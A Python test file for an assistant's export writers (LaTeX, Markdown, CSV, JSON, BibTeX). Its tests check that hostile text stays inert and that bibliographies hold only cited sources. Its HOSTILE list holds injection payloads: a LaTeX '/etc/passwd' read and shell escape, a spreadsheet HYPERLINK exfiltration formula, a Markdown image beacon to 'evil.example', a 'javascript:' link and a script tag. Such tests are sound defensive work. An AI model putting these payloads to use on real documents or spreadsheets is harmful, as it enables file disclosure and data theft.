"""Documents → files: hostile text in every field, in every format, stays text; a bibliography is exactly what is cited."""

import csv
import io
import json
import re

import pytest

from assistant.document import (
    SUMMARY_FIELDS,
    Assignment,
    Cell,
    Cite,
    Column,
    Coverage,
    Document,
    Node,
    Problem,
    Report,
    Result,
    Row,
    Section,
    Source,
    Statement,
    Summary,
    Unassigned,
)
from assistant.export import WRITERS, bibtex, escape
from store.formats import read_bytes

HOSTILE = (
    r"\input{/etc/passwd} \write18{x} ^^5cinput{y} 50% & $5 #1 _a {b",
    '=HYPERLINK("http://e/?"&A2)',
    "+1", "-1", "@SUM(1)", "＝1",
    "![x](https://evil.example/?d=1)", "[c](javascript:alert(1))", "<script>alert(1)</script>",
    "| a | b |\n# heading\n- item", "`code` **bold** ]] [forest, {",
)  # fmt: skip


def source(key: str, title: str, **more: object) -> Source:
    fields: dict[str, object] = {
        "key": key, "title": title, "authors": ("Ada Lovelace",), "author_count": 1, "organization": "", "year": "2026", "venue": "",
        "entry_type": "", "identifiers": {"arxiv": "2603.00001"}, "is_note": False,
    }  # fmt: skip
    return Source(**{**fields, **more})  # type: ignore[arg-type]


def documents(text: str) -> list[Document]:
    """One document a task, with the text in every field that a paper or a model fills."""
    cite = Cite("a2026x", "abstract", (1,), text, 1)
    sources = {"a2026x": source("a2026x", text, authors=(text,), organization=text, venue=text), "b": source("b", "B")}
    statement = Statement(text, (cite,), (Problem(text, "R4", "x"),))
    coverage = (Coverage("a2026x", ("One",)), Coverage("b", (), text))
    return [
        Document("ask", text, sections=(Section("", (statement,)),), outcome="answered", sources=sources),
        Document("draft", text, sections=(Section(text, (statement,)),), coverage=coverage, sources=sources, report=Report(1, 1)),
        Document(
            "table", text, columns=(Column("c", text, text),), coverage=coverage, sources=sources,
            rows=(Row("a2026x", {"c": Cell(text, text, "stated", cites=(cite,))}), Row("b", {"c": Cell(None, "", "not stated")})),
        ),
        Document(
            "taxonomy", text, nodes=(Node("n", text, text, facet=text),), assignments=(Assignment("a2026x", "n", cites=(cite,)),),
            unassigned=(Unassigned("b", text),), coverage=coverage, sources=sources,
        ),
        Document(
            "summarize", text, coverage=coverage, sources=sources, summaries=(Summary(
                "a2026x", dict.fromkeys(SUMMARY_FIELDS, Cell(text, text, "stated", cites=(cite,), marks=("R4: not there",))),
                (Result(text, text, text, text, (cite,)), Result("", text)), (Problem(text, "R7", text),),
            ),),
        ),
    ]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text_in_every_format(text: str) -> None:
    """No command, formula, image, link, script or structure comes out of a title, a label or a reply."""
    for document in documents(text):
        tex = WRITERS["tex"](document)
        assert not re.search(r"\\(?:input|write)|\^\^", tex)
        assert tex.count("{") - tex.count(r"\{") == tex.count("}") - tex.count(r"\}")
        md = WRITERS["md"](document)
        assert not re.search(r"(?<!\\)!?(?<!\\)\[[^\]@]*(?<!\\)\]\(|(?<!\\)<script", md)
        rows = list(csv.reader(io.StringIO(WRITERS["csv"](document).removeprefix("\ufeff"))))
        assert not any(cell.startswith(tuple("=+-@＝")) for row in rows for cell in row)
        assert json.loads(WRITERS["json"](document))
        reading = read_bytes(WRITERS["bib"](document).encode() or b" ", "out.bib")
        assert not reading.refused


@pytest.mark.parametrize("name", ["md", "csv", "tex"])
def test_a_line_of_a_reply_makes_no_structure(name: str) -> None:
    """A cell with line breaks and bars is one cell."""
    table = documents(HOSTILE[9])[2]
    if name == "md":
        assert sum(line.startswith("| ") for line in WRITERS["md"](table).splitlines()) == 3
    elif name == "csv":
        assert len(list(csv.reader(io.StringIO(WRITERS["csv"](table))))) == 3
    else:
        assert WRITERS["tex"](table).count(r" \\" + "\n") == 3


def test_the_bibliography_is_exactly_what_is_cited() -> None:
    """A draft cites `a2026x` and not `b`: one entry, whose fields are the library's and read back the same."""
    (draft,) = [document for document in documents("Deep {RL} for A-1 Robots") if document.task == "draft"]
    (record,) = read_bytes(bibtex.write(draft).encode(), "out.bib").records
    assert record.key == "a2026x"
    assert dict(record.identifiers) == {"arxiv": "2603.00001"}
    assert record.date == "2026"
    tex = WRITERS["tex"](draft)
    assert set(re.findall(r"\\cite\{([^}]*)\}", tex)) == {"a2026x"}


def test_what_the_library_does_not_know_is_not_in_the_entry() -> None:
    """No author, no year, no venue: no field."""
    entry = bibtex.entry(source("x", "A Title", authors=(), author_count=5, year="", identifiers={}))
    assert entry == "@misc{x,\n  title = {A Title},\n}\n"


def test_a_quote_stays_as_the_paper_has_it() -> None:
    """Titles and cells show LaTeX in Unicode; a quote in JSON is the stored text to the character."""
    assert escape.plain(r"Learning on $SE(3)$ with \textbf{WIST}") == "Learning on SE(3) with WIST"
    document = documents(r"We use $SE(3)$ and \emph{more}.")[0]
    assert json.loads(WRITERS["json"](document))["statements"][0]["cites"][0]["quote"] == r"We use $SE(3)$ and \emph{more}."


def test_signs_are_commands_that_latex_knows() -> None:
    """Greek letters and signs print with plain pdflatex; accents and Chinese are left to the document."""
    assert escape.latex("ε-optimal, 4.3×, café, 学") == r"\ensuremath{\varepsilon}-optimal, 4.3×, café, 学"
    assert escape.latex("α ≤ β") == r"\ensuremath{\alpha} \ensuremath{\leq} \ensuremath{\beta}"


def test_notes_say_that_they_are_notes() -> None:
    """Where a quote is from a note, the reader is told."""
    document = documents("Fine.")[0]
    noted = Document("ask", "q", sections=document.sections, outcome="answered", sources={"a2026x": source("a2026x", "T", is_note=True)})
    assert "our notes, not from the authors' abstracts" in WRITERS["md"](noted)
    assert "our notes, not from the authors' abstracts" in WRITERS["tex"](noted)
    assert "our notes" not in WRITERS["md"](document)


def test_a_percent_sign_beside_mathematics_starts_no_comment() -> None:
    """What stands behind it is kept; an escaped one is shown plainly."""
    assert escape.plain(r"22.4% (9.4% before) on $\tau$-bench, 5\% less") == "22.4% (9.4% before) on τ-bench, 5% less"


def test_a_summary_without_results_is_no_blank() -> None:
    """Every writer says that nothing is stated."""
    silent = Summary("b", dict.fromkeys(SUMMARY_FIELDS, Cell(None, "", "not stated")))
    document = Document("summarize", "S", sources={"b": source("b", "B")}, summaries=(silent,))
    assert "- **Results**: not stated" in WRITERS["md"](document)
    assert WRITERS["tex"](document).count("& --") == 6
    assert next(csv.DictReader(io.StringIO(WRITERS["csv"](document).removeprefix("\ufeff"))))["Results"] == "not stated"
